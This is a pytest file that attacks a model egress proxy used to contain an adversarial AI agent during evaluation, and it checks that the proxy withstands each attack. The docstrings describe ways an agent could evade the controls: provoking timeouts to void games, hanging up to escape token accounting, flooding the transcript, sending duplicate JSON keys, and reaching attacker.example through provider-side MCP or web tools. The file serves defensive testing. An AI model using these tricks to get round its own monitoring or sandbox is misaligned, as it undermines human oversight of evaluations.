"""An attacker's review of the model egress proxy, driven directly over its Unix socket (no sandbox: the agent
is fully adversarial, and the relay in front of the socket is the agent's own, so anything it could send
over the socket is in scope). Each test names the attack; the upstream is tests/support/fakemodel.py."""

from __future__ import annotations

import contextlib
import json
import socket
import threading
import time
from pathlib import Path
from typing import Any

import httpx
import pytest

from acx_oci.egress.proxy import ModelProxy
from acx_oci.model import modelapi as ma
from tests.support.fakemodel import FakeModel, ModelRequest, SlowStream

MODEL = "acme-large-2026-06"
KEY = "sk-acx-REAL-verifier-key-attack"
HOST = f"127.0.0.1:{ma.MODEL_PORT}"


def entry(fm: FakeModel, api: str = "openai-chat", **kw: Any) -> ma.ModelEntry:
    return ma.ModelEntry(id=MODEL, api=api, base_url=fm.base_url, api_key_env="X", **kw)


def client(sock: Path, timeout: float = 10.0) -> httpx.Client:
    return httpx.Client(transport=httpx.HTTPTransport(uds=str(sock)), base_url=f"http://{HOST}", timeout=timeout)


def chat(text: str = "hi", **extra: Any) -> dict[str, Any]:
    return {"model": MODEL, "messages": [{"role": "user", "content": text}], **extra}


def raw_request(body: bytes, path: str = "/v1/chat/completions") -> bytes:
    return (f"POST {path} HTTP/1.1\r\nHost: {HOST}\r\nContent-Type: application/json\r\n"
            f"Content-Length: {len(body)}\r\n\r\n").encode() + body


@pytest.fixture()
def sock(tmp_path: Path) -> Path:
    return tmp_path / "model.sock"


def uds(path: Path) -> socket.socket:
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.connect(str(path))
    return s


def forwarded_models(fm: FakeModel) -> list[Any]:
    return [r.json().get("model") for r in fm.requests if r.path.startswith("/v1/")]


# --- (5) lane errors at the agent's will ----------------------------------------------------------------------

def slow_when_asked(req: ModelRequest) -> str:
    """A provider's time to answer grows with the output the request asks for: a request for a long
    generation is slow, every other one is fast (as on a real provider)."""
    if "write a novel" in req.last_user:
        time.sleep(2.5)
    return "ok"


def test_a_long_generation_the_agent_asks_for_is_not_an_upstream_failure(sock: Path) -> None:
    """An agent facing a hard task asks for an answer that takes longer than the proxy's per-request deadline:
    on a real provider that is just a big max_tokens. Before: ReadTimeout -> upstream_failed -> the game is a
    lane-error (unrated) whenever the agent likes -- "retry until lucky". The provider is healthy (a tiny
    request answers), so the failure is the agent's doing and must not take the game out of the rating."""
    with FakeModel(slow_when_asked, key=KEY) as fm:
        proxy = ModelProxy(entry(fm), KEY, sock, request_seconds=1.0).start()
        try:
            with client(sock) as c:
                r = c.post("/v1/chat/completions", json=chat("please write a novel", max_tokens=100000))
                assert r.status_code >= 500  # the agent learns its request failed
        finally:
            run = proxy.stop()
    assert not run.upstream_failed, "an agent-made timeout turned the game into a lane-error"


def test_an_upstream_5xx_the_agent_provokes_is_not_a_lane_error(sock: Path) -> None:
    """Some inputs make a provider answer 5xx while it is healthy for every other request (a crafted request):
    the agent could send one on each hard task. Only a provider that also fails the verifier's own request is
    the examiner's failure."""
    def script(req: ModelRequest) -> Any:
        from tests.support.fakemodel import Fail

        return Fail(500, "internal error on this input") if "\u0000poison" in req.last_user else "ok"

    with FakeModel(script, key=KEY) as fm:
        proxy = ModelProxy(entry(fm), KEY, sock, request_seconds=5.0).start()
        try:
            with client(sock) as c:
                r = c.post("/v1/chat/completions", json=chat("\u0000poison"))
                assert r.status_code == 500
        finally:
            run = proxy.stop()
    assert not run.upstream_failed, "an agent-provoked 5xx turned the game into a lane-error"


def test_a_provider_down_is_still_an_upstream_failure(sock: Path) -> None:
    """The other side of the two tests above: a provider failing every request stays the examiner's failure."""
    with FakeModel("x", key=KEY, fail_with=503) as fm:
        proxy = ModelProxy(entry(fm), KEY, sock, request_seconds=5.0).start()
        try:
            with client(sock) as c:
                assert c.post("/v1/chat/completions", json=chat()).status_code == 503
        finally:
            run = proxy.stop()
    assert run.upstream_failed


def test_an_agent_that_stops_reading_is_not_an_upstream_failure(sock: Path) -> None:
    """The agent (which owns the socket) sends a request and never reads the answer: the proxy's write to the
    agent times out. Before: the TimeoutError was caught as the *upstream's* failure -> lane-error at will."""
    with FakeModel("word " * 2_000_000, key=KEY) as fm:  # ~10 MB answer: more than the socket buffers hold
        # 3 s: under load the fake provider's 10 MB must still arrive in time (at 1 s it did not, once: then the
        # provider *was* late, and the test failed for the wrong reason)
        proxy = ModelProxy(entry(fm), KEY, sock, request_seconds=3.0).start()
        s = uds(sock)
        try:
            s.sendall(raw_request(json.dumps(chat()).encode()))
            time.sleep(4.5)  # never read
        finally:
            s.close()
            run = proxy.stop()
    assert not run.upstream_failed, "the agent not reading its answer was counted as the provider's failure"


# --- (3)/(6) budgets and the record ----------------------------------------------------------------------------

def test_closing_mid_stream_still_counts_the_tokens_and_records_the_exchange(sock: Path) -> None:
    """The agent reads the streamed answer and hangs up before the last (usage) event. Before: the write to the
    closed socket raised out of _forward, so the exchange was never recorded and its tokens never counted: the
    token budget was escaped and the transcript did not hold what the agent was told."""
    release = threading.Event()
    with FakeModel("one two three four five", key=KEY, slow_stream=SlowStream(3, 10.0, release)) as fm:
        proxy = ModelProxy(entry(fm, max_tokens_per_game=1_000), KEY, sock, request_seconds=10.0).start()
        try:
            s = uds(sock)
            s.sendall(raw_request(json.dumps(chat(stream=True)).encode()))
            got = b""
            while b"two" not in got:
                got += s.recv(65536)
            s.close()  # the agent has what it wanted
            release.set()
            time.sleep(0.5)
        finally:
            run = proxy.stop()
    assert run.record["requests"] == 1
    assert run.record["outputTokens"] == 5, run.record
    forwarded = [ex for ex in run.transcript["exchanges"] if not ex.get("refused")]
    assert len(forwarded) == 1, "the forwarded exchange is missing from the transcript"


def test_a_flood_of_refused_requests_cannot_push_forwarded_exchanges_out_of_the_transcript(
        sock: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Refused requests are free for the agent (nothing goes upstream). Before: they filled the 2 x MAX_EXCHANGES
    exchange slots, after which every *forwarded* exchange was silently left out of the transcript (the model's
    answers unrecorded, the digest over a transcript missing them)."""
    monkeypatch.setattr(ma, "MAX_EXCHANGES", 5)  # 10,000 in production: the same thing, 2,000 times slower
    with FakeModel("ok", key=KEY) as fm:
        proxy = ModelProxy(entry(fm), KEY, sock).start()
        try:
            with client(sock) as c:
                for _ in range(12):
                    assert c.post("/v1/files", json=chat()).status_code == 404
                assert c.post("/v1/chat/completions", json=chat()).status_code == 200
        finally:
            run = proxy.stop()
    assert run.record["requests"] == 1 and run.record["refused"] == 12
    forwarded = [ex for ex in run.transcript["exchanges"] if not ex.get("refused")]
    assert len(forwarded) == 1, "a forwarded exchange was dropped from the transcript"


# --- (2) forbidden requests upstream ---------------------------------------------------------------------------

@pytest.mark.parametrize("body", [
    b'{"model":"other-model","model":"' + MODEL.encode() + b'","messages":[{"role":"user","content":"hi"}]}',
    b'{"messages":[{"role":"user","content":"hi","role":"system"}],"model":"' + MODEL.encode() + b'"}',
])
def test_duplicate_json_keys_are_refused(sock: Path, body: bytes) -> None:
    """Python's json keeps the last of duplicate keys; many parsers keep the first (or merge): the proxy would
    judge one request and the provider run another (another model id). Such a body is refused."""
    with FakeModel("ok", key=KEY) as fm:
        with ModelProxy(entry(fm), KEY, sock), client(sock) as c:
            r = c.post("/v1/chat/completions", content=body, headers={"content-type": "application/json"})
        assert r.status_code == 400, r.text
        assert forwarded_models(fm) == []


@pytest.mark.parametrize("body", [
    "\ufeff" + json.dumps(chat()),  # a BOM: Python's json.loads(bytes) accepts it
])
def test_a_body_not_in_plain_utf8_json_is_refused(sock: Path, body: str) -> None:
    with FakeModel("ok", key=KEY) as fm:
        with ModelProxy(entry(fm), KEY, sock), client(sock) as c:
            r = c.post("/v1/chat/completions", content=body.encode("utf-8"),
                       headers={"content-type": "application/json"})
        assert r.status_code == 400, r.text
        assert forwarded_models(fm) == []


@pytest.mark.parametrize("raw", [b"NaN", b"Infinity", b"-Infinity"])
def test_non_json_number_constants_are_refused(sock: Path, raw: bytes) -> None:
    body = b'{"model":"' + MODEL.encode() + b'","messages":[{"role":"user","content":"hi"}],"temperature":' + raw + b"}"
    with FakeModel("ok", key=KEY) as fm:
        with ModelProxy(entry(fm), KEY, sock), client(sock) as c:
            r = c.post("/v1/chat/completions", content=body, headers={"content-type": "application/json"})
        assert r.status_code == 400, r.text
        assert forwarded_models(fm) == []


@pytest.mark.parametrize(("api", "path", "body", "headers"), [
    # OpenAI Responses: a remote MCP server is called by the provider (any URL: the held-out prompt leaves
    # to the attacker, and anything comes back in); web search reaches the internet.
    ("openai-responses", "/v1/responses",
     {"model": MODEL, "input": "hi", "tools": [{"type": "mcp", "server_label": "x",
                                                 "server_url": "https://attacker.example/mcp"}]}, {}),
    ("openai-responses", "/v1/responses", {"model": MODEL, "input": "hi", "tools": [{"type": "web_search"}]}, {}),
    ("openai-chat", "/v1/chat/completions", {**chat(), "web_search_options": {}}, {}),
    # Anthropic: server tools (web fetch / web search) and the MCP connector.
    ("anthropic-messages", "/v1/messages",
     {"model": MODEL, "max_tokens": 10, "messages": [{"role": "user", "content": "hi"}],
      "tools": [{"type": "web_fetch_20250910", "name": "web_fetch"}]}, {"anthropic-version": "2023-06-01"}),
    ("anthropic-messages", "/v1/messages",
     {"model": MODEL, "max_tokens": 10, "messages": [{"role": "user", "content": "hi"}],
      "mcp_servers": [{"type": "url", "url": "https://attacker.example/sse", "name": "x"}]},
     {"anthropic-version": "2023-06-01", "anthropic-beta": "mcp-client-2025-04-04"}),
])
def test_provider_side_tools_that_reach_the_network_are_refused(sock: Path, api: str, path: str,
                                                                 body: dict[str, Any], headers: dict[str, str]
                                                                 ) -> None:
    """The sandbox's network namespace is empty, but the provider will fetch URLs, search the web and call
    remote MCP servers on the agent's behalf: egress to any host, through the model API. Refused."""
    with FakeModel("ok", key=None) as fm:
        with ModelProxy(entry(fm, api), KEY, sock), client(sock) as c:
            r = c.post(path, json=body, headers=headers)
        assert r.status_code == 400, r.text
        assert forwarded_models(fm) == []


def test_function_tools_still_pass(sock: Path) -> None:
    tool = {"type": "function", "function": {"name": "f", "parameters": {"type": "object", "properties": {}}}}
    with FakeModel("ok", key=KEY) as fm:
        with ModelProxy(entry(fm), KEY, sock), client(sock) as c:
            r = c.post("/v1/chat/completions", json=chat(tools=[tool]))
        assert r.status_code == 200, r.text


# --- (4) the verifier ------------------------------------------------------------------------------------------

def test_stop_does_not_wait_five_seconds_per_stalled_request(sock: Path) -> None:
    """The agent opens several connections whose answers the provider holds (a long think before the first
    token): at the end of the game stop() joined each serving thread for 5 s in turn -- 64 connections keep the
    verifier's game slot for 320 s. stop() must cut upstream reads and return promptly."""
    gate = threading.Event()
    with FakeModel("ok", key=KEY, slow_stream=SlowStream(0, 60.0, gate)) as fm:
        proxy = ModelProxy(entry(fm), KEY, sock, request_seconds=60.0).start()
        socks = []
        try:
            for _ in range(3):
                s = uds(sock)
                s.sendall(raw_request(json.dumps(chat(stream=True)).encode()))
                socks.append(s)
            deadline = time.monotonic() + 5
            while fm.answered < 3 and time.monotonic() < deadline:
                time.sleep(0.05)
            t0 = time.monotonic()
            proxy.stop()
            took = time.monotonic() - t0
        finally:
            gate.set()
            for s in socks:
                s.close()
    assert took < 15.0, f"stop() took {took:.1f}s"  # a backstop: held streams (60 s each) are not waited for


# --- (1) the key -----------------------------------------------------------------------------------------------

class _Reflector(threading.Thread):
    """An upstream that echoes the request's headers in its body (a debug endpoint, a misbehaving gateway)."""

    def __init__(self) -> None:
        super().__init__(daemon=True)
        self.srv = socket.socket()
        self.srv.bind(("127.0.0.1", 0))
        self.srv.listen(4)
        self.port = self.srv.getsockname()[1]

    def run(self) -> None:
        with contextlib.suppress(OSError):
            c, _ = self.srv.accept()
            data = b""
            while b"\r\n\r\n" not in data:
                data += c.recv(65536)
            head = data.split(b"\r\n\r\n")[0].decode("latin-1")
            body = json.dumps({"echo": head}).encode()
            c.sendall(b"HTTP/1.1 200 OK\r\ncontent-type: application/json\r\ncontent-length: "
                      + str(len(body)).encode() + b"\r\nconnection: close\r\n\r\n" + body)
            c.close()


def test_an_upstream_reflecting_the_key_does_not_hand_it_to_the_agent(sock: Path) -> None:
    refl = _Reflector()
    refl.start()
    e = ma.ModelEntry(id=MODEL, api="openai-chat", base_url=f"http://127.0.0.1:{refl.port}/v1", api_key_env="X")
    with ModelProxy(e, KEY, sock), client(sock) as c:
        r = c.post("/v1/chat/completions", json=chat())
    assert r.status_code == 200
    assert KEY not in r.text, "the verifier's key reached the agent in the response body"


def test_a_deeply_nested_body_is_refused_and_counted(sock: Path) -> None:
    """json.loads raises RecursionError (not ValueError) on deep nesting: before, it killed the serving thread
    (a traceback on the verifier's stderr, the connection cut, nothing counted as refused or recorded)."""
    body = b'{"model":"' + MODEL.encode() + b'","x":' + b"[" * 200_000 + b"]" * 200_000 + b"}"
    with FakeModel("ok", key=KEY) as fm:
        proxy = ModelProxy(entry(fm), KEY, sock).start()
        try:
            with client(sock) as c:
                r = c.post("/v1/chat/completions", content=body, headers={"content-type": "application/json"})
                assert r.status_code == 400
        finally:
            run = proxy.stop()
        assert forwarded_models(fm) == []
    assert run.record["refused"] == 1 and len(run.transcript["exchanges"]) == 1


# --- (3) budgets under concurrency ------------------------------------------------------------------------------

def test_concurrent_requests_cannot_overshoot_the_token_budget(sock: Path) -> None:
    """Usage is known only when an answer ends: eight connections fired together just under the budget each
    passed the check before any usage was added. With a token budget one answer is in flight at a time, so at
    most the last forwarded request crosses it."""
    budget = 60
    with FakeModel("one two three four five six seven eight nine ten", key=KEY, latency=0.2) as fm:
        proxy = ModelProxy(entry(fm, max_tokens_per_game=budget), KEY, sock).start()
        statuses: list[int] = []

        def agent() -> None:
            with client(sock, timeout=30) as c:
                for _ in range(10):
                    r = c.post("/v1/chat/completions", json=chat("a b c d e"))
                    statuses.append(r.status_code)
                    if r.status_code == 429:
                        return

        threads = [threading.Thread(target=agent) for _ in range(8)]
        for t in threads:
            t.start()
        for t in threads:
            t.join(60)
        run = proxy.stop()
    forwarded = [e for e in run.transcript["exchanges"] if not e.get("refused") and not e.get("probe")]
    spent = [e["usage"]["input"] + e["usage"]["output"] for e in forwarded]
    assert len(fm.requests) == len(forwarded) == run.record["requests"]
    assert sum(spent[:-1]) < budget <= sum(spent), spent  # only the last one crossed the budget
    assert statuses.count(429) == 8


def test_answers_in_flight_are_bounded_per_game(sock: Path) -> None:
    """Each answer is held for the record while it is relayed: a game may not hold 64 of them at once."""
    from acx_oci.egress import proxy as proxy_mod

    with FakeModel("x", key=KEY, latency=0.5) as fm:
        proxy = ModelProxy(entry(fm), KEY, sock).start()
        seen: list[float] = []

        def one() -> None:
            with client(sock, timeout=30) as c:
                assert c.post("/v1/chat/completions", json=chat()).status_code == 200
                seen.append(time.monotonic())

        t0 = time.monotonic()
        threads = [threading.Thread(target=one) for _ in range(2 * proxy_mod.MAX_IN_FLIGHT)]
        for t in threads:
            t.start()
        for t in threads:
            t.join(30)
        proxy.stop()
    assert len(seen) == 2 * proxy_mod.MAX_IN_FLIGHT
    assert max(seen) - t0 >= 2 * 0.5  # two waves: never more than MAX_IN_FLIGHT upstream at once
